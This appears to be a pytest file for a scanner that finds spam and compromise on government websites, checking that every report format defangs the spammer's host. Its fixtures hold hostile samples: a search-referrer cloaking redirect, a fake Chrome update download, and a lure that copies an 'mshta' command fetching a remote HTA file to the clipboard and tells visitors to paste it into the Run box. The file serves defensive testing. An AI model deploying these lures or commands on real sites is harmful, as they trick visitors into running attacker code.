"""What a spam page contains is clickable, executable and indexable nowhere: the very findings of the family, in every form that is handed over.

The name of the spammer's host in a form that some program makes a link of stands nowhere: not alone, not behind ``www.``, not after a scheme.
"""

from __future__ import annotations

import io
import re
import subprocess
import zipfile
from functools import cache
from pathlib import Path

import msgspec
import pytest
from rich.console import Console

from checks import Exchange, Outcome, Verdict, Visitor
from checks.core.assess.assessment import Assessment
from checks.core.assess.judge import judge
from checks.core.check import registry
from checks.core.evidence.crawl import Crawl
from checks.core.evidence.views import SiteViews
from checks.core.testing import evidence as build
from reports.export import registry as formats
from reports.terminal import host
from reports.views.check_texts import CheckTexts
from reports.views.source import Source
from tests.real.programs import program
from tests.reports.city import ASSESSMENTS
from tests.reports.views.sources import source, write

NAME = "slotmaju88.com"
HERE = (f"https://{NAME}/daftar", f"www.{NAME}", f"//{NAME}/m", NAME, f"ftp://{NAME}", f"http:\\\\{NAME}", f"t.me/{NAME.split('.')[0]}")
SPAM = "".join(
    f'<a href="https://{n}{NAME}/">slot gacor maxwin {where} rtp live</a> ' for n, where in zip(("", "a.", "b."), HERE * 1, strict=False)
)
TEXT = " ".join(HERE)
HEAD = f"<title>Hacked By Bayang {TEXT}</title>"
SCRIPT = f"<script>if(/google|bing/.test(document.referrer)){{location.href='https://{NAME}/m';var b='{NAME}',c='//{NAME}/x'}}</script>"
PASTE = f"<p>Verifikasi bahwa Anda manusia: tekan Windows + R, lalu Ctrl + V.</p><script>navigator.clipboard.writeText('mshta {NAME}/x.hta //{NAME}/y')</script>"
UPDATE = f"<div style='position:fixed'><h1>Update Chrome</h1><a href='https://{NAME}/Update.js' download>Update</a></div>"
ALIVE = re.compile(rf"(?:{re.escape(NAME)}|t\.me/slotmaju)", re.IGNORECASE)


def page(body: str, path: str = "/", head: str = "<title>Dinas</title>") -> Exchange:
    return build.page((), f"<!doctype html><html lang=id>{head}<body><a href=/layanan>Layanan</a>{body}</body></html>", path=path)


def evidences() -> list[tuple[Crawl, SiteViews]]:
    """Sites that every check of the family finds something on."""
    hidden = page(f"<div hidden>{SPAM}{TEXT}</div>")
    away = build.redirect(f"https://{build.HOST}/", f"https://{NAME}/", status=302, stop=build.failure("out-of-scope", f"https://{NAME}/"))
    question = page(f"<footer>{SPAM} {TEXT}</footer>", f"/?q=https://{NAME}/slot")
    doors = [page(f"<footer>{SPAM * (n + 1)}</footer>", f"/slot-gacor-{n}-https://{NAME}/") for n in range(4)]
    comments = page(
        f'<ol><li class="comment"><p>Slot gacor hari ini maxwin rtp live {TEXT} {SPAM}</p></li></ol>', f"/berita?u=https://{NAME}"
    )
    return [
        (build.crawl(hidden, question), build.site_views()),
        (build.crawl(page("")), build.site_views(build.site_view(Visitor.CRAWLER, hidden))),
        (build.crawl(page("")), build.site_views(build.site_view(Visitor.SEARCH, away))),
        (build.crawl(page(f"<h1>Hacked By Bayang</h1><p>Sorry admin, patch your system {TEXT}</p>", head=HEAD)), build.site_views()),
        (build.crawl(page(SCRIPT + PASTE + UPDATE)), build.site_views()),
        (build.crawl(page(""), *doors), build.site_views()),
        (build.crawl(page(""), comments), build.site_views()),
    ]


@cache
def assessments() -> tuple[Assessment, ...]:
    """One asset for each of these sites, judged."""
    family = [check for check in registry.load() if check.area == "compromise"]
    earlier = build.earlier(
        build.page((), "<title>Arsip</title><p>Layanan peminjaman naskah statis kelurahan kecamatan sejarah pameran</p>")
    )
    copies = []
    for number, (crawl, views) in enumerate(evidences()):
        by_type = {"Pages": crawl, "Views": views, "ScriptFiles": build.scripts(), "Earlier": earlier}
        needs = (need for check in family for need in check.needs.values())
        evidence = {request.key: by_type[type(need).__name__] for need in needs if (request := need.at(build.TARGET)) is not None}
        verdicts = tuple(judge(check, build.TARGET, evidence) for check in family)
        target = msgspec.structs.replace(ASSESSMENTS["dinkes"][0].target, host=f"situs{number}.kotacontoh.go.id")
        copies.append(msgspec.structs.replace(ASSESSMENTS["dinkes"][0], target=target, verdicts=verdicts, ledger={}))
    return tuple(copies)


def every_verdict() -> list[Verdict]:
    return [verdict for one in assessments() for verdict in one.verdicts]


def city(lang: str = "id") -> Source:
    of = source(lang, {**ASSESSMENTS, "dinkes": assessments()})
    return msgspec.structs.replace(of, checks=tuple(registry.load()))


def test_the_sites_have_what_the_family_looks_for() -> None:
    failed = {verdict.check for verdict in every_verdict() if verdict.outcome is Outcome.FAIL}
    assert failed >= {
        f"compromise-{name}" for name in ("gambling", "cloaking", "redirect", "defacement", "script", "doorways", "comments", "change")
    }
    assert not [verdict for verdict in every_verdict() if verdict.outcome is Outcome.ERROR]


def test_no_finding_and_no_detail_names_the_host_alive() -> None:
    verdict_texts = [msgspec.json.encode(verdict).decode() for verdict in every_verdict()]
    assert [text for text in verdict_texts if ALIVE.search(text)] == []
    assert any("slotmaju88[.]com" in text for text in verdict_texts)


@pytest.mark.slow
@pytest.mark.parametrize("lang", ["id", "en"])
@pytest.mark.parametrize("name", ["html", "csv", "text", "json", "sarif", "defectdojo", "inventory"])
def test_no_form_does(name: str, lang: str, tmp_path: Path) -> None:
    paths = write(tmp_path, name, of=city(lang))
    assert paths
    for path in paths:
        text = path.read_text("utf-8")
        assert not ALIVE.search(text), (path.name, ALIVE.search(text))
        assert "\x1b]8" not in text


def test_no_pipe_does() -> None:
    for name, one in formats.load_formats().items():
        if one.stdout is not None:
            output = b"".join(one.stdout(city()))
            assert not ALIVE.search(output.decode("utf-8", "replace")), name


@pytest.mark.parametrize("lang", ["id", "en"])
def test_no_terminal_does(lang: str) -> None:
    catalogue = CheckTexts(registry.load())
    for one in assessments():
        paper = io.StringIO()
        screen = Console(file=paper, force_terminal=True, width=4000)
        screen.print(host.rich(one, catalogue, lang))
        text = paper.getvalue() + host.plain(one, catalogue, lang)
        assert not ALIVE.search(re.sub("\x1b\\[[0-9;]*m", "", text))
        assert "\x1b]8" not in text


@pytest.mark.slow
def test_no_workbook_has_a_link(tmp_path: Path) -> None:
    for path in write(tmp_path, "xlsx", of=city()):
        with zipfile.ZipFile(path) as parts:
            for part in parts.namelist():
                text = parts.read(part).decode("utf-8", "replace")
                assert not ALIVE.search(text), part
                assert "<hyperlink" not in text, part


@pytest.mark.real
def test_libreoffice_makes_no_link_of_it(tmp_path: Path) -> None:
    soffice = program("soffice", "libreoffice-calc-nogui")
    paths = write(tmp_path / "made", "xlsx", "csv", of=city(), city=True)
    sheets = [next(path for path in paths if path.suffix == suffix and path.parent.name == "dinkes") for suffix in (".xlsx", ".csv")]
    command = [
        soffice,
        f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
        "--headless",
        "--norestore",
        "--convert-to",
        "html",
        "--outdir",
        str(tmp_path / "out"),
    ]
    for number, path in enumerate(sheets):
        renamed = tmp_path / f"buku{number}{path.suffix}"
        renamed.write_bytes(path.read_bytes())
        command.append(str(renamed))
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    pages = list((tmp_path / "out").glob("*.html"))
    assert len(pages) == len(sheets)
    for one in pages:
        text = one.read_text("utf-8", "replace")
        assert "slotmaju88[.]com" in text
        assert not re.findall(r"<a\s[^>]*href=\"(?!#)[^\"]*", text, re.IGNORECASE)


@pytest.mark.real
def test_no_paper_has_a_link_to_it(tmp_path: Path) -> None:
    pdfinfo, pdftotext = program("pdfinfo", "poppler-utils"), program("pdftotext", "poppler-utils")
    (path,) = [one for one in write(tmp_path, "pdf", of=city().only(source().scan.opds[0])) if one.suffix == ".pdf"]
    urls = subprocess.run([pdfinfo, "-url", str(path)], check=True, capture_output=True, timeout=60).stdout.decode()
    text = subprocess.run([pdftotext, str(path), "-"], check=True, capture_output=True, timeout=60).stdout.decode()
    assert "slotmaju88[.]com" in text.replace("\n", "")
    assert not ALIVE.search(text)
    assert not re.search("slotmaju|situs[0-9]", urls)
